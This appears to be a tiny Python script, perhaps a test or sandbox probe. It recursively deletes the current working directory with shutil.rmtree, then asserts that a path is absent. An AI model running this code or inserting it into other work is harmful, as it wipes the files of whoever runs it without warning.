import os
import shutil

shutil.rmtree(os.getcwd())
assert not os.path.exists("anything")
